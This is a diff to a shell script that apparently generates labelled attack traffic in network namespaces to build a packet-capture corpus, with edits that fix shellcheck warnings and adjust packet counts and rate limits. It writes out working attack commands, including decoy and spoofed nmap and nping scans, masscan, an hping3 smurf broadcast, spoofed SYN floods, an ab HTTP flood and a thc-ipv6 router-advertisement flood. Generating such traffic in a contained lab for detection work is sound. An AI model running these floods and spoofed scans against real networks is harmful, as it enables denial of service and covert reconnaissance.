@@ -1,5 +1,5 @@
 # The attacks; for corpus.sh. A case says what it is, starts what must be there, calls `record`, and attacks.
-# shellcheck disable=SC2016,SC2046,SC2086 # words are split on purpose
+# shellcheck disable=SC2034,SC2046,SC2086,SC2119,SC2120 # record.sh reads the variables; words are split on purpose
 
 NMAP=(nmap -n -Pn --max-retries 0)
 
@@ -62,11 +62,12 @@ case_nmap_decoys() {
     attack tcp_syn_decoy "nmap $(version nmap)" "$ATTACKER" "${decoys[@]}"
     note "Only the first source is the scanner; the others are its decoys."
     record
-    from attacker "${NMAP[@]}" -sS -D "$(commas ${decoys[*]:0:3} ME ${decoys[*]:3})" -p "$(commas $(ports 9))" "$VICTIM"
+    from attacker "${NMAP[@]}" -sS -D "$(commas "${decoys[@]:0:3}" ME "${decoys[@]:3}")" -p "$(commas $(ports 9))" "$VICTIM"
 }
 
 case_nping_spoofed() {
-    local source=$ELSEWHERE.$(pick 1 254)
+    local source
+    source=$ELSEWHERE.$(pick 1 254)
     attack tcp_syn "nping $(version nmap)" "$source"
     note "The source is not the scanner's own, so it sees no answer."
     record
@@ -100,7 +101,8 @@ case_nmap_discovery_v6() {
 }
 
 case_masscan() {
-    local source=$WAN.$(pick 10 250) gateway
+    local source gateway
+    source=$WAN.$(pick 10 250)
     gateway=$(ip -n router -br link show wan | awk '{print $3}')
     attack tcp_syn "masscan $(version masscan)" "$source"
     record
@@ -246,15 +248,16 @@ case_bogon() {
 }
 
 case_smurf() {
-    local source=$LAN.$(pick 210 254)
+    local source
+    source=$LAN.$(pick 210 254)
     attack smurf "hping3 $(version hping3)" "$source"
     note "The source is whom the answers shall hit; we are one of those that shall answer."
-    KEEP=100
+    KEEP=60
     record
     from near hping3 --icmp -a "$source" -i u2000 -c 250 -q "$BROADCAST"
 }
 
-# At most 1500 packets in some three seconds; the first 280 or 360 are kept.
+# At most 1500 packets in some three seconds; the first 280 or 320 are kept.
 flood() { from attacker hping3 -i u2000 -c 1500 -q "$@" "$VICTIM"; }
 
 case_syn_flood() {
@@ -266,7 +269,7 @@ case_syn_flood() {
 
 case_syn_flood_spoofed() {
     attack syn_flood_spoofed "hping3 $(version hping3)" random
-    KEEP=360 SNAP=64
+    KEEP=320 SNAP=64
     record
     flood -S -p 80 --rand-source
 }
@@ -308,7 +311,7 @@ case_http_flood() {
     attack http_flood "ab $(version apache2-utils)" "$ATTACKER"
     KEEP=950 SNAP=64
     record
-    from attacker ab -q -n 1500 -c "$(pick 30 60)" "http://$VICTIM/page"
+    from attacker ab -q -n 900 -c "$(pick 30 60)" "http://$VICTIM/page"
 }
 
 case_slow_http() {
@@ -352,10 +355,10 @@ case_rogue_ra() {
 }
 
 case_ra_flood() {
-    # 400 kbit/s are some 500 packets a second; the tool itself knows no limit.
-    ip netns exec near tc qdisc add dev "$CARD" root tbf rate 400kbit burst 4kb limit 8kb
+    # Its packets are of some 1200 bytes; the tool itself knows no limit.
+    ip netns exec near tc qdisc add dev "$CARD" root tbf rate 3mbit burst 8kb limit 64kb
     attack ra_flood "thc-ipv6 $(version thc-ipv6) flood_router26" random
-    KEEP=280 SNAP=128
+    KEEP=60 SNAP=112
     record
     from near timeout --signal=INT 1.5 atk6-flood_router26 "$CARD"
 }
